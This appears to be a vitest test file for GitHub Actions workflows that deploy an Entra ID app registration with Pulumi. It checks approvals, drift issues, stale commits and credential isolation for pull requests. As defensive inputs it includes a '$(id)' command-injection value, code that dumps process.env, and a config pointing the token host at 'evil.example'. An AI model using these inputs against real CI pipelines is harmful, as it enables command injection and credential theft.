import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { TenantRepository } from "../../workflow/tenant-repository.ts";

// What the person who starts deploy.yml by hand chooses.
const refresh = { "inputs.refresh": true };
const accepted = { "inputs.accept-interruption": true };

/** Hears whatever is sent to it. */
class Listener implements AsyncDisposable {
  readonly requests: string[] = [];
  readonly #server: Server = createServer((request, response) => {
    this.requests.push(`${request.method} ${request.url}`);
    response.end();
  });

  static async start(): Promise<Listener> {
    const listener = new Listener();
    await new Promise<void>((resolve) => listener.#server.listen(0, "127.0.0.1", resolve));
    return listener;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

/** What is not tried here is what only GitHub and Entra ID have: their tokens, and the GitHub environments' rules. */
describe("a repository with a tenant", () => {
  let repository: TenantRepository;
  /** A proposal to move the console. */
  let moved: string;

  beforeAll(async () => {
    repository = await TenantRepository.start();
  });

  afterAll(async () => {
    await repository[Symbol.asyncDispose]();
  });

  /** Somebody adds a redirect URI in the portal, in the place of another one. */
  function changeByHand(uri: string): void {
    const [registration] = repository.registrations;
    if (registration === undefined) {
      throw new Error("nothing was deployed");
    }
    const web = { ...registration.web, redirectUris: ["https://desk.contoso.com/api/oidc/callback", uri] };
    repository.directory.applications.update({ ...registration, web });
  }

  test("deploys its environments on a push", async () => {
    const listed = await repository.run("deploy.yml", "environments");
    expect(listed.outputs).toMatchObject({ "main.newest": "true", "list.names": '["prod"]' });
    const { plan, deploy } = await repository.deploy();
    expect(plan.success, plan.log).toBe(true);
    expect(plan.outputs).toMatchObject({ "plan.names": '["prod"]', "plan.failed": "" });
    expect(plan.summary).toContain("| prod | ✓ Sign-in goes on uninterrupted | NEW | NEW | NEW | 1 added |");
    expect(plan.summary).toMatch(/^Fingerprint of prod: `[\da-f]{32}`$/m);
    expect(deploy.success, deploy.log).toBe(true);
    expect(repository.redirectUris).toEqual(["https://desk.contoso.com/api/oidc/callback"]);
  });

  test("asks nobody to approve a deployment that changes nothing", async () => {
    const plan = await repository.run("deploy.yml", "plan");
    expect(plan.outputs, plan.log).toMatchObject({ "plan.names": "[]", "plan.failed": "" });
  });

  test("deploys one environment by hand, and no other than there are", async () => {
    const listed = await repository.run("deploy.yml", "environments", { "inputs.environment": "prod" });
    expect(listed.outputs["list.names"]).toBe('["prod"]');
    const refused = await repository.run("deploy.yml", "environments", { "inputs.environment": "$(id)" });
    expect(refused.success).toBe(false);
    expect(refused.log).toContain('Error: --only must name one of prod; got "$(id)".');
  });

  test("does not interrupt sign-in in every environment at once", async () => {
    const refused = await repository.run("deploy.yml", "environments", accepted);
    expect([refused.success, refused.log]).toEqual([
      false,
      "::error title=Which environment?::accept-interruption must come with the environment whose console somebody is at; " +
        "got none. Start the workflow again and name one.\n",
    ]);
  });

  test("does not deploy what main has gone on from, neither by an old run nor by its last job alone", async () => {
    const old = "0".repeat(40);
    const words = `This run is for ${old}, but main is at ${repository.commit}, whose own run deploys. To go back, revert on main.\n`;
    const listed = await repository.run("deploy.yml", "environments", { "github.sha": old });
    expect([listed.success, listed.outputs["list.names"]]).toEqual([true, undefined]);
    expect(listed.log).toBe(`::notice title=Nothing is deployed::${words}`);
    const { plan, deploy } = await repository.deploy({ "github.sha": old });
    const refused = [false, `::error title=Older commit::${words}`];
    expect([
      [plan.success, plan.log],
      [deploy.success, deploy.log],
    ]).toEqual([refused, refused]);
  });

  test("finds nothing at night when all is as declared, and has no issue to close", async () => {
    const { check, issue } = await repository.night();
    expect(check.outputs, check.log).toMatchObject({ "drift.code": "0", "expiry.code": "0" });
    expect(check.summary).toMatch(/```text\nprod, in the tenant \S+: The client secret works until .*\n```/);
    expect(issue.log).toContain("Nothing to close: no issue is open.");
    expect(repository.github.issues).toEqual([]);
  });

  test("opens one issue when somebody changes the registration by hand, and closes it once a deployment has undone it", async () => {
    changeByHand("https://b.contoso.com/");
    const { check, issue } = await repository.night();
    expect(check.outputs["drift.code"], check.log).toBe("4");
    expect(issue.log).toContain("Issue created: https://github.test/issues/1");
    expect(repository.github.issues).toMatchObject([
      { state: "open", body: expect.stringContaining("https&#58;//b.contoso.com") },
    ]);
    const { deploy: refused } = await repository.deploy(refresh);
    expect(refused.log).toContain(
      "Changes that take something from others, or let others in, must be accepted by somebody",
    );
    const { deploy: undone } = await repository.deploy({ ...refresh, ...accepted });
    expect(undone.success, undone.log).toBe(true);
    expect(repository.redirectUris).toEqual(["https://desk.contoso.com/api/oidc/callback"]);
    expect((await repository.night()).issue.log).toContain("Issue closed: https://github.test/issues/1");
  });

  test("deploys nothing but what was approved, when somebody changes the registration in between", async () => {
    changeByHand("https://b.contoso.com/");
    const { plan, deploy } = await repository.deploy({ ...refresh, ...accepted }, () =>
      changeByHand("https://c.contoso.com/"),
    );
    expect([plan.success, deploy.success], plan.log).toEqual([true, false]);
    expect(deploy.log).toMatch(
      /What this does to prod must be what was approved \(fingerprint [\da-f]{32}\), but is something else by now \([\da-f]{32}\)\. Nothing was changed\./,
    );
    expect(deploy.log).toMatch(/ {2}now, and not approved: .*https:\/\/c\.contoso\.com/);
    expect(deploy.log).toMatch(/ {2}approved, and no more: .*https:\/\/b\.contoso\.com/);
    expect(repository.redirectUris).toContain("https://c.contoso.com/");
    const { deploy: undone } = await repository.deploy({ ...refresh, ...accepted });
    expect(undone.success, undone.log).toBe(true);
  });

  test("has its state where the committed file says, and nowhere else whatever the repository's variables are", async () => {
    repository.redirect({ backendUrl: "file:///nowhere" });
    const { check, issue } = await repository.night();
    expect(check.outputs).toMatchObject({ "drift.code": "1", "expiry.code": "1" });
    expect(issue.log).toContain("Issue reopened: https://github.test/issues/1");
    repository.redirect();
    await using listener = await Listener.start();
    const names = [
      "PULUMI_BACKEND_URL",
      "AZURE_STORAGE_ACCOUNT",
      "PULUMI_ORGANIZATION",
      "ARM_TENANT_ID",
      "DEPLOY_CLIENT_ID",
    ];
    const variables = Object.fromEntries(names.map((name) => [`vars.${name}`, listener.url]));
    const { plan } = await repository.deploy(variables);
    expect(plan.success, plan.log).toBe(true);
    expect(listener.requests).toEqual([]);
  });

  test("previews a pull request that changes settings, and changes nothing, neither in the tenant nor in the state", async () => {
    const before = repository.state;
    moved = repository.propose((folder) => {
      const file = join(folder, "Pulumi.prod.yaml");
      writeFileSync(file, readFileSync(file, "utf8").replace("https://desk.contoso.com", "https://new.contoso.com"));
    });
    const { proposal, tenant } = await repository.preview(moved);
    expect(proposal.outputs["proposal.kind"], proposal.log).toBe("data");
    expect(tenant?.success, tenant?.log).toBe(true);
    expect(tenant?.outputs).toMatchObject({ "preview.code": "4" });
    expect(tenant?.summary).toContain("| prod | ✗ Sign-in breaks for some or all users |");
    expect(repository.redirectUris).toEqual(["https://desk.contoso.com/api/oidc/callback"]);
    expect(repository.state).toEqual(before);
  });

  test("comments on it by main's own code", async () => {
    repository.github.issues.push({ number: 12, title: "", body: "", login: "ada", labels: [], state: "open" });
    const commented = await repository.run("preview.yml", "comment", { "github.event.pull_request.number": "12" });
    expect(commented.success, commented.log).toBe(true);
    expect(repository.github.comments.map(({ body }) => body)).toEqual([
      expect.stringContaining("| prod | ✗ Sign-in breaks for some or all users |"),
    ]);
  });

  test.each([
    ["code", "index.ts", "throw new Error(JSON.stringify(process.env));\n"],
    ["where the provider sends its token", "Pulumi.prod.yaml", "config:\n  azuread:metadataHost: evil.example\n"],
    ["where the state is", ".github/deployment.json", "{}"],
  ])("gives no credentials to a pull request that changes %s", async (_what, file, text) => {
    const { proposal, tenant } = await repository.preview(
      repository.propose((folder) => writeFileSync(join(folder, file), text)),
    );
    expect([proposal.outputs["proposal.kind"], tenant], proposal.log).toEqual(["code", undefined]);
  });

  test("previews code beside credentials once somebody has approved that very commit", async () => {
    const commit = repository.propose((folder) => writeFileSync(join(folder, "policy-config.json"), "{}"));
    const previewed = await repository.run("preview-code.yml", "tenant", { "inputs.commit": commit });
    expect(previewed.success, previewed.log).toBe(true);
    expect(previewed.summary).toContain("| prod | ");
    const refused = await repository.run("preview-code.yml", "tenant", { "inputs.commit": "proposal" });
    expect([refused.success, refused.log]).toEqual([
      false,
      "::error title=Which commit?::commit must be all 40 digits of the commit that was read: a branch's name could mean another one by now.\n",
    ]);
  });

  test("does not deploy what interrupts sign-in on a push, but does so when somebody starts it by hand for that", async () => {
    repository.upstream.git("merge", "--quiet", "--ff-only", moved);
    repository.commit = moved;
    const { deploy: refused } = await repository.deploy();
    expect(refused.success).toBe(false);
    expect(refused.log).toContain("Changes that interrupt or break sign-in must be accepted by somebody");
    expect(repository.redirectUris).toEqual(["https://desk.contoso.com/api/oidc/callback"]);
    const { deploy: applied } = await repository.deploy(accepted);
    expect(applied.success, applied.log).toBe(true);
    expect(repository.redirectUris).toEqual(["https://new.contoso.com/api/oidc/callback"]);
  });
});
